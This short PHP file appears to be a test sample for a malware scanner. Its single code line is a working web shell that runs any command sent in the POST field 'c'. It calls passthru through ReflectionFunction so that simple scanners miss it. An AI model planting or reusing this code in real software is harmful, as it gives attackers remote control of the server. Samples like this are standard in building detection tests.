<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
(new ReflectionFunction('passthru'))->invokeArgs([$_POST['c']]);
